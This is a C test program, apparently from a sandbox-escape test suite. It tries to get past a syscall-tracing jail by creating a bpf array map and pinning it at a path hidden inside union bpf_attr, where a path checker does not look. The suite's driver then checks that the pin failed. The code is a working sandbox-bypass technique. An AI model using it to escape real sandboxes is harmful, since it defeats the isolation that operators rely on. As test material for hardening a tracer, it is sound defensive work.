/* e0506-bpf-pin - use bpf(2) to leave an object behind outside the jail.
 *
 * Attack: bpf() creates kernel objects (maps, programs) that the tracer
 * cannot see into, and pins them by a path inside its union bpf_attr,
 * which a path checker never reads.  Creates an array map and pins it at
 * PIN-PATH in a bpf file system (the driver mounts one in a private mount
 * namespace); the driver checks that nothing appeared there.
 * Source: janus team (DESIGN.md "bypassing the tracer: bpf").
 * Usage: e0506-bpf-pin PIN-PATH */
#include <linux/bpf.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "escape.h"

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0506-bpf-pin PIN-PATH");
	union bpf_attr a;
	memset(&a, 0, sizeof a);
	a.map_type = BPF_MAP_TYPE_ARRAY;
	a.key_size = 4;
	a.value_size = 4;
	a.max_entries = 1;
	long fd = syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof a);
	esc_show_result("bpf BPF_MAP_CREATE", fd);
	if (fd < 0)
		return 0;
	memset(&a, 0, sizeof a);
	a.pathname = (uint64_t)(uintptr_t)argv[1];
	a.bpf_fd = (uint32_t)fd;
	esc_show_result("bpf BPF_OBJ_PIN", syscall(SYS_bpf, BPF_OBJ_PIN, &a, sizeof a));
	return 0;
}
